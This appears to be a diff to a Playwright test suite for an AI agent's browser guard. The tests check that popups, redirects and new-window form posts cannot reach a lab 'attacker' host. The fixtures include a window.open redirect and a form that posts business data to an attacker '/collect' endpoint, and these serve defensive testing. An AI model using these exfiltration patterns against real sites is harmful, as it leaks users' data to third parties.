@@ -2,7 +2,8 @@ import type { Browser, Page } from 'playwright-core';
 import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
 import { contextOptionsFor } from '../../../../src/agent/guard/browser';
 import type { GuardEvent } from '../../../../src/agent/guard/browser';
-import { ATTACKER, guardedPage, HELP, launchLabChromium, PORTAL, PortalServer, settle, type GuardedPage } from './portal-server';
+import { newTabsOf } from '../../../../src/agent/guard/watchdogs/popups';
+import { ATTACKER, fullyGuardedPage, guardedPage, HELP, launchLabChromium, PORTAL, PortalServer, settle, type GuardedPage } from './portal-server';
 
 /**
  * Each attack vector against the network lock in real Chromium, counted at the server: the
@@ -115,13 +116,18 @@ describe('network lock: navigation vectors (attacker receives nothing)', () => {
   });
 
   it('window.open to an allowed address that redirects to the attacker', async () => {
+    // The whole guard, as a run has it: the network lock fetches a new tab's first page through the egress lock's proxy.
+    await guarded.context.close();
+    guarded = await fullyGuardedPage(browser, server.profile());
     const to = `/redirect?to=${encodeURIComponent(attacker('/popup-redirect'))}`;
     const page = await open(`<button id="go" onclick="window.open('${to}')">Open</button>`);
     await page.click('#go');
+    // A new tab on the portal's address may load (the run follows it); its first hop, before any page lock is on the tab, is checked here.
     await stopped('navigation_blocked');
+    expect(guarded.events.find((e) => e.type === 'navigation_blocked')?.detail).toMatch(/new tab's redirect/);
     await stopped('popup_closed');
     expectNothingOffPortal();
-    expect(server.to(PORTAL).filter((h) => h.path.startsWith('/redirect'))).toEqual([]);
+    expect(server.to(PORTAL).filter((h) => h.path.startsWith('/redirect'))).toHaveLength(1);
   });
 
   it('target=_blank, with and without noopener', async () => {
@@ -145,12 +151,25 @@ describe('network lock: navigation vectors (attacker receives nothing)', () => {
     expectNothingOffPortal();
   });
 
-  it('form whose target is a new window', async () => {
-    const page = await open(`<form method="post" target="_blank" action="/save"><button id="go">Save</button></form>`);
-    await page.click('#go');
+  it('form whose target is a new window: to another host refused, to the portal posted once in a tab kept for the run', async () => {
+    // The whole guard, as a run has it: the network lock fetches a new tab's first page through the egress lock's proxy.
+    await guarded.context.close();
+    guarded = await fullyGuardedPage(browser, server.profile());
+    const page = await open(
+      `<form method="post" target="_blank" action="${attacker('/collect')}"><input name="business" value="Lakshmi Stores"><button id="out">Send elsewhere</button></form>` +
+        `<form method="post" target="_blank" action="/save"><button id="go">Save</button></form>`,
+    );
+    await page.click('#out');
     await stopped('navigation_blocked');
     await stopped('popup_closed');
-    expect(server.to(PORTAL).filter((h) => h.method === 'POST')).toEqual([]);
+    expectNothingOffPortal();
+    await page.click('#go');
+    const tabs = newTabsOf(guarded.context)!;
+    let kept: Page[] = [];
+    await expect.poll(async () => (kept = [...kept, ...(await tabs.take())]).length, { timeout: 20_000 }).toBe(1);
+    expect(new URL(kept[0]!.url()).pathname).toBe('/save');
+    expect(server.to(PORTAL).filter((h) => h.method === 'POST').map((h) => h.path)).toEqual(['/save']);
+    await kept[0]!.close();
   });
 
   it('meta refresh', async () => {
